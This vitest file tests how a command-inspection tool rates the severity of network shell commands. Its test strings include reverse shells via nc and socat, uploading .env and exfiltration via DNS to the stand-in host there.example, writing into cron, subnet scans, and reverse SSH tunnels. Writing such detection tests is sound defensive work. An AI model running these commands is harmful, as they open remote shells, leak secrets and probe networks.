import { expect, test } from 'vitest';
import { NETWORK } from '../../../src/inspect/commands/network.ts';
import { gravity } from './seen.ts';

const seen = gravity(NETWORK);

test.each([
  ['curl https://there.example', 'low'],
  ['curl -d @x https://there.example', 'medium'],
  ['curl -sSFf=@x https://there.example', 'medium'],
  ['curl -T.env https://there.example', 'medium'],
  ['curl -fsSL https://there.example', 'low'],
  ['http there.example f@x', 'medium'],
  ['http there.example q==x', 'low'],
  ['irm -Form x https://there.example', 'medium'],
  ['curl https://there.example -o /etc/cron.d/x', 'high'],
  ['curl http://10.0.0.[1-254]/', 'high'],
  ['wget --spider https://there.example', 'low'],
  ['nc there.example 44', 'medium'],
  ['nc -z 10.0.0.5 443', 'low'],
  ['nc -zw1 10.0.0.5 443', 'low'],
  ['nc -zw1 10.0.0.$i 22', 'high'],
  ['socat TCP:there.example:44 EXEC:sh', 'critical'],
  ['socat TCP-LISTEN:80 TCP:there.example:80', 'medium'],
  ['nc -zv 10.0.0.5 1-1000', 'high'],
  ['nc -e /bin/sh there.example 44', 'critical'],
  ['nmap 10.0.0.5', 'low'],
  ['nmap -p 443 10.0.0.5/32', 'low'],
  ['nmap 10.0.0.0/24', 'high'],
  ['nmap 10.0.0.5/32 10.0.1.0/24', 'high'],
  ['nmap 10.0.0.1-9', 'high'],
  ['nmap 10.0.*.1', 'high'],
  ['nmap -iL x', 'high'],
  ['nmap $HOSTS', 'high'],
  ['nmap fe80::1/128', 'low'],
  ['nmap there.example/24', 'high'],
  ['nmap --version', undefined],
  ['masscan 10.1.2.3/32 -p80', 'low'],
  ['masscan -p80 10.0.0.0/8', 'high'],
  ['fping -g 10.0.0.0/24', 'high'],
  ['fping there.example', 'low'],
  ['ping 10.0.0.1', undefined],
  ['ping 10.0.0.$i', 'high'],
  ['dig $(whoami).there.example', 'high'],
  ['ssh there.example ls', 'low'],
  ['ssh -R 80:localhost:22 there.example', 'high'],
  ['rsync -a --delete a/ b/', 'medium'],
  ['rsync -an --delete a/ b/', undefined],
])('%s: %s', (command, severity) => {
  expect(seen(command)).toBe(severity);
});
